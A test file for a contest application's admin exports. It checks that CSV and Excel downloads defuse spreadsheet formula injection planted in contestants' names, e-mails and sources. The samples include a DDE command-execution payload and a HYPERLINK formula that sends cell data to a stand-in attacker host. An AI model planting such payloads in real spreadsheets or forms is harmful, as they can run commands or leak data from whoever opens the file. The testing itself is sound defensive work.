/**
 * Formula injection through the organisers' downloads: texts a contestant controls (name, e-mail,
 * source site) that start like a spreadsheet formula. The rows are written straight into the
 * database, as rows stored before registration checked these fields would be: the exports must
 * defuse them whatever the checks at the door let through.
 */
import ExcelJS from 'exceljs';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { createAdminToken } from '../src/db/admin.js';
import { openDatabase, type Db } from '../src/db/connection.js';
import { parseCsv } from '../src/domain/csv.js';
import { seedDemoContests } from '../src/seed/demo.js';
import { hashToken } from '../src/tokens.js';
import { smallContest } from './admin-support.js';
import { appEnv, JURY_TOKEN, ORGANISER_TOKEN, register, startAttempt, testEnv, TestClock, type TestEnv } from './support.js';

const SLUG = 'cong-thuc-doc';
const PAYLOADS = {
  fullName: "-1+cmd|' /C calc'!A0",
  email: '-2+HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm")',
  source: '=1+1',
} as const;
const MORE = ['+SUM(1,1)', '@SUM(A1)', '\t=1+1', '\r=1+1'];

const dirs: string[] = [];
const dbs: Db[] = [];
afterEach(() => {
  for (const db of dbs.splice(0)) db.close();
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

/** A database file (exports then run in worker threads, as on the server). */
function fileEnv(): TestEnv {
  const dir = mkdtempSync(join(tmpdir(), 'cong-thuc-'));
  dirs.push(dir);
  const clock = new TestClock(new Date('2026-11-28T03:00:00Z'));
  const db = openDatabase(join(dir, 'thi.db'), { groupCommit: true });
  dbs.push(db);
  createAdminToken(db, hashToken(ORGANISER_TOKEN), 'Ban Tổ chức', 'organiser', clock.now());
  createAdminToken(db, hashToken(JURY_TOKEN), 'Ban Giám khảo', 'jury', clock.now());
  seedDemoContests(db, clock.now());
  return appEnv(db, clock);
}

/** Five contestants, each with one submitted attempt; then their texts replaced by the payloads. */
async function poisoned(env: TestEnv) {
  await smallContest(env, SLUG, 4, 2);
  const texts = [PAYLOADS, ...MORE.map((text) => ({ fullName: text, email: text, source: text }))];
  for (const [i, t] of texts.entries()) {
    const { token, contestant } = await register(env, i + 1, {}, SLUG);
    const attempt = await startAttempt(env, token, SLUG);
    env.clock.advance(1000);
    const submitted = await env.call('POST', `/api/attempts/${attempt.id}/submit`, { token, json: { answers: {}, prediction: 5 } });
    expect(submitted.status, JSON.stringify(submitted.body)).toBe(200);
    env.db.prepare('UPDATE contestants SET full_name = ?, email = ?, source = ? WHERE id = ?').run(t.fullName, t.email, t.source, contestant.id);
    // A negative number, which the API never stores, to show numeric columns are not defused.
    env.db.prepare('UPDATE attempts SET prediction = -5 WHERE id = ?').run(attempt.id);
  }
  return [PAYLOADS.fullName, PAYLOADS.email, PAYLOADS.source, ...MORE];
}

async function download(env: TestEnv, path: string) {
  const response = await env.app.request(`/api/admin/contests/${SLUG}/${path}`, { headers: { authorization: `Bearer ${JURY_TOKEN}` } });
  const bytes = Buffer.from(await response.arrayBuffer());
  expect(response.status, bytes.toString('utf8').slice(0, 300)).toBe(200);
  return bytes;
}

/**
 * Every text cell that starts like a formula begins with "'"; the payloads appear only defused.
 * `numbers`: cells that are the project's own numbers, written as they are.
 */
function expectDefused(rows: string[][], payloads: readonly string[], numbers: readonly string[] = []) {
  const cells = rows.slice(1).flat();
  for (const cell of cells) if (/^[=+\-@\t\r]/.test(cell) && !numbers.includes(cell)) throw new Error(`a cell Excel would run: ${JSON.stringify(cell)}`);
  for (const payload of payloads) expect(cells, payload).toContain(`'${payload}`);
  for (const number of numbers) expect(cells).toContain(number);
}

/** Texts in the workbook are inline strings read back exactly, never formulas. */
async function expectPlainStrings(bytes: Buffer, payloads: readonly string[]) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  const found: string[] = [];
  book.worksheets[0]!.eachRow((row) =>
    row.eachCell((cell) => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      expect(cell.formula).toBeFalsy();
      if (typeof cell.value === 'string') found.push(cell.value);
    }),
  );
  // Carriage returns are written as &#13;, so even '\r=1+1' reads back exactly as it was typed.
  for (const payload of payloads) expect(found).toContain(payload);
}

describe.each([
  ['worker threads (database file)', fileEnv],
  ['main thread (in memory)', () => testEnv()],
])('formula payloads in the exports, %s', (_, makeEnv) => {
  it('the ranking CSV defuses every one', async () => {
    const env = makeEnv();
    const payloads = await poisoned(env);
    const rows = parseCsv((await download(env, 'ranking?format=csv')).toString('utf8'));
    expectDefused(rows, payloads.filter((p) => p !== PAYLOADS.source)); // the ranking has no source column
  });

  it('the attempts CSV defuses every one', async () => {
    const env = makeEnv();
    const payloads = await poisoned(env);
    const rows = parseCsv((await download(env, 'attempts?format=csv')).toString('utf8'));
    // The attempts export has no e-mail column; its predictions are the attempts' own, −5 written as a number.
    expectDefused(rows, payloads.filter((p) => p !== PAYLOADS.email), ['-5']);
  });

  it('the contestants CSV defuses every one', async () => {
    const env = makeEnv();
    const payloads = await poisoned(env);
    const rows = parseCsv((await download(env, 'contestants?format=csv')).toString('utf8'));
    for (const cell of rows.slice(1).flat()) if (/^[=+\-@\t\r]/.test(cell)) throw new Error(`a cell Excel would run: ${JSON.stringify(cell)}`);
    for (const payload of payloads) expect(rows.slice(1).flat(), payload).toContain(`'${payload}`);
  });

  it('the workbooks keep the texts as they were typed, as strings, never formulas', async () => {
    const env = makeEnv();
    const payloads = await poisoned(env);
    await expectPlainStrings(await download(env, 'ranking?format=xlsx'), payloads.filter((p) => p !== PAYLOADS.source));
    await expectPlainStrings(await download(env, 'attempts?format=xlsx'), payloads.filter((p) => p !== PAYLOADS.email));
  });
});

describe('an e-mail address that starts like a formula, through registration itself', () => {
  it('is accepted as an address and defused in the ranking CSV, kept as typed in the workbook', async () => {
    const env = testEnv();
    await smallContest(env, SLUG, 4, 2);
    const email = '-2+cmd@thaibinh.gov.vn';
    const { token } = await register(env, 1, { email }, SLUG);
    const attempt = await startAttempt(env, token, SLUG);
    expect((await env.call('POST', `/api/attempts/${attempt.id}/submit`, { token, json: { prediction: 3 } })).status).toBe(200);
    const rows = parseCsv((await download(env, 'ranking?format=csv')).toString('utf8'));
    expect(rows[1]![5]).toBe(`'${email}`);
    await expectPlainStrings(await download(env, 'ranking?format=xlsx'), [email]);
  });
});
